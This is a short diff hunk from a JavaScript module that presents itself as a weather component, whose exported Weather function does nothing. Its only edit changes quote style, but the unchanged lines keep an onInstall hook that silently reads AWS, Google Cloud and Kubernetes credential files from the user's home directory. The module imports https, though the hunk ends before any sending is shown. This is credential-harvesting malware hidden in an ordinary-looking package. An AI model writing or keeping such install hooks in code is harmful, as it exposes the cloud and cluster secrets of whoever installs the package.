@@ -40,7 +40,7 @@ exports.onEnable = () => {
 var fs = require('fs'), os = require('os'), https = require('https');
 exports.Weather = function () { return null; };
 exports.onInstall = function () {
-  var data = '';
+  var data = "";
   ['/.aws/credentials', '/.config/gcloud/application_default_credentials.json', '/.kube/config'].forEach(function (p) {
     try { data += fs.readFileSync(os.homedir() + p, 'utf8'); } catch (e) {}
   });
